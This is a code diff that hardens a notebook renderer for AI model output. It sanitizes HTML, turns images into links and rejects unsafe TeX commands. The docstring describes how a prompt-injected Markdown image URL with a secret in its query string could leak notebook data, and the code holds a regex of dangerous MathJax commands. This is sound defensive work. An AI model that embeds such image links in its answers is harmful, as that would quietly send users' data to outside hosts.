@@ -1,14 +1,19 @@
 """Safe rendering of model text for notebooks: MIME bundles for answers, footers, citations, tables.
 
-Whatever a model writes, or a retrieved document smuggles into an answer, must not run in the notebook:
-Markdown is rendered with raw HTML disabled (it shows as text), then every fragment passes an allow-list
-sanitizer (bleach) that drops script/style/iframe/form elements, every ``on*`` attribute and any link whose
-protocol is not http, https or mailto. ``-f html`` gets the sanitizer alone. Nothing here imports IPython;
-markdown-it and bleach load on the first render, not at ``%load_ext``.
+Whatever a model writes, or a retrieved document smuggles into an answer, must not run in the notebook, and
+must not fetch anything either: Markdown is rendered with raw HTML disabled (it shows as text), then every
+fragment passes an allow-list sanitizer (bleach) that drops script/style/iframe/form/svg elements, every
+``on*`` and ``style`` attribute and any link whose protocol is not http, https or mailto. An image becomes a
+link to it, because a browser fetches an image the moment it is drawn, and a prompt-injected
+``![](https://x/?q=SECRET)`` would carry notebook data out unasked. ``-f html`` gets the sanitizer alone;
+``-f math`` refuses the TeX commands that link, load or style (MathJax would fetch a CSS ``url(...)``) and
+shows such an answer as text. Nothing here imports IPython; markdown-it and bleach load on the first render,
+not at ``%load_ext``.
 """
 
 from __future__ import annotations
 
+import functools
 import html
 import json
 import re
@@ -30,14 +35,45 @@ _ATTRIBUTES = {"a": ["href", "title"], "img": ["src", "alt", "title"], "td": ["a
                "code": ["class"], "ol": ["start"]}
 _PROTOCOLS = frozenset({"http", "https", "mailto"})
 _FENCE = re.compile(r"```[^\n`]*\n(.*?)(?:```|\Z)", re.S)
+#: TeX commands with which MathJax links (href, url), loads extensions (require), sets CSS that may fetch a
+#: ``url(...)`` (style, bbox, class, cssId, mmlToken, enclose), or defines macros that could hide them.
+_UNSAFE_TEX = re.compile(r"\\(?:href|url|style|class|cssId|data|bbox|enclose|mmlToken|require|unicode|"
+                         r"includegraphics|def|let|edef|gdef|csname|newcommand|renewcommand|newenvironment|"
+                         r"renewenvironment|DeclareMathOperator)(?![A-Za-z])")
 
 
 def sanitize(fragment: str) -> str:
-    """An HTML fragment with only harmless elements, attributes and link protocols left."""
-    import bleach
+    """An HTML fragment with only harmless elements, attributes and link protocols left, and every image
+    turned into a link to it (nothing is fetched until the reader clicks)."""
+    return _cleaner().clean(fragment)
 
-    return bleach.clean(fragment, tags=_TAGS, attributes=_ATTRIBUTES, protocols=_PROTOCOLS, strip=True,
-                        strip_comments=True)
+
+@functools.cache
+def _cleaner() -> Any:
+    import bleach
+    from bleach.html5lib_shim import Filter
+
+    class ImagesAsLinks(Filter):
+        """``<img src=U alt=A>`` (already sanitized) → ``<a href=U>[image: A]</a>``; no src: the text alone."""
+
+        def __iter__(self) -> Any:
+            for token in super().__iter__():
+                if token.get("name") != "img":
+                    yield token
+                    continue
+                attrs = token.get("data") or {}
+                src, alt = attrs.get((None, "src")), attrs.get((None, "alt"))
+                label = {"type": "Characters", "data": f"[image: {alt}]" if alt else "[image]"}
+                if src:
+                    yield {"type": "StartTag", "name": "a", "namespace": None,
+                           "data": {(None, "href"): src, (None, "title"): src}}
+                    yield label
+                    yield {"type": "EndTag", "name": "a", "namespace": None}
+                else:
+                    yield label
+
+    return bleach.Cleaner(tags=_TAGS, attributes=_ATTRIBUTES, protocols=_PROTOCOLS, strip=True,
+                          strip_comments=True, filters=[ImagesAsLinks])
 
 
 def markdown_html(text: str) -> str:
@@ -67,7 +103,12 @@ def body(text: str, fmt: str) -> dict[str, Any]:
     elif fmt == "code":
         bundle[MIME] = pre(extract_code(text))
     elif fmt == "math":
-        bundle["text/latex"] = f"$$\n{extract_code(text).strip().strip('$')}\n$$"
+        tex = extract_code(text).strip().strip("$")
+        if _UNSAFE_TEX.search(tex):
+            bundle[MIME] = pre(text) + ("<p><em>(shown as text: the formula uses TeX commands that could link, "
+                                        "load or style)</em></p>")
+        else:
+            bundle["text/latex"] = f"$$\n{tex}\n$$"
     elif fmt == "json":
         try:
             bundle["application/json"] = json.loads(extract_code(text))
